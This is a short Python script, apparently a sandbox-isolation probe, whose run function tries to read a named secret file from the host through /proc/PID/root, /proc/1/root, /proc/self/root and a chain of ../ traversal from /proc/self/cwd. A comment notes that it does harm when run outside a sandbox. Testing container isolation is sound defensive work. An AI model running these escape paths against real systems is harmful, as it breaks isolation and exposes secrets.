# Reach the host's files through /proc/PID/root and cwd.
# This is tried without the sandbox too: there it does harm.
import os


def run(c):
    found = []
    for way in (f"/proc/{c['host']}/root", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../.."):
        try:
            with open(way + c["secret"]) as file:
                found.append(file.read())
        except OSError as error:
            found.append(type(error).__name__)
    return found
